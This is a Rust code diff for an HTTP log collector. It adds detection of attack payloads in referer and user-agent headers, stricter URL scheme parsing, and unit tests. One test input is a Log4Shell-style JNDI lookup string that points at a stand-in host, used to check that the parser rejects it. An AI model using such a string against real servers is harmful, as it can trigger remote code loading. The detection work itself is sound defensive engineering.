@@ -113,8 +113,10 @@ impl Collector {
             let uri = joined(&mut self.uri, path, said.query);
             flags.set(Flags::PAYLOAD, self.shared.lists.payloads.find(uri.as_bytes()).is_some());
         }
-
-        let referer = text(&input.referer, row).and_then(host_of);
+        let referer = text(&input.referer, row);
+        let in_referer = || referer.is_some_and(|referer| self.shared.lists.payloads.is_in_header(referer.as_bytes()));
+        flags.set(Flags::PAYLOAD, agent.carries_payload || in_referer());
+        let referer = referer.and_then(host_of);
         let transport = (
             self.names.transports.optional(text(&input.scheme, row)),
             self.names.transports.optional(text(&input.tls_version, row)),
@@ -248,6 +250,7 @@ impl Collector {
             norm: self.names.norms.number(&facts.norm).0,
             family: self.names.families.number(&facts.family).0,
             is_hostile: facts.hostile_tool.is_some() || facts.offensive_os,
+            carries_payload: self.shared.lists.payloads.is_in_header(agent.as_bytes()),
             claims_cdn: agent == "Amazon CloudFront",
             facts,
         });
@@ -359,7 +362,44 @@ fn is_service(requester: &str) -> bool {
 
 /// The host of a referer.
 fn host_of(referer: &str) -> Option<&str> {
-    let (_, rest) = referer.split_once("://")?;
+    let (scheme, rest) = referer.split_once("://")?;
+    let is_scheme = scheme.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'-' | b'.'));
     let host = rest.split(['/', '?', '#', ':']).next()?;
-    (!host.is_empty()).then_some(host)
+    (is_scheme && !host.is_empty()).then_some(host)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_queries_carry_signatures() {
+        let version_4 = "X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=a%2Fb&X-Amz-Date=20261001T000000Z&X-Amz-Expires=60\
+                         &X-Amz-SignedHeaders=host&X-Amz-Signature=00";
+        for (query, expected) in [
+            (version_4, true),
+            ("AWSAccessKeyId=a&Expires=1790812800&Signature=b%3D", true),
+            ("response-content-type=a&Signature=b&AWSAccessKeyId=a&Expires=1", true),
+            ("X-Amz-Signature=1", false),
+            ("Signature=1&Expires=1", false),
+            ("xX-Amz-Signature=1", false),
+            ("", false),
+        ] {
+            assert_eq!(is_presigned(query), expected, "{query}");
+        }
+    }
+
+    #[test]
+    fn hosts_of_referers() {
+        for (referer, expected) in [
+            ("https://www.example.com/a?b", Some("www.example.com")),
+            ("http://www.example.com:8080", Some("www.example.com")),
+            ("android-app://com.example.reader/", Some("com.example.reader")),
+            ("${jndi:ldap://198.51.100.9/a}", None),
+            ("www.example.com", None),
+            ("https:///a", None),
+        ] {
+            assert_eq!(host_of(referer), expected, "{referer}");
+        }
+    }
 }
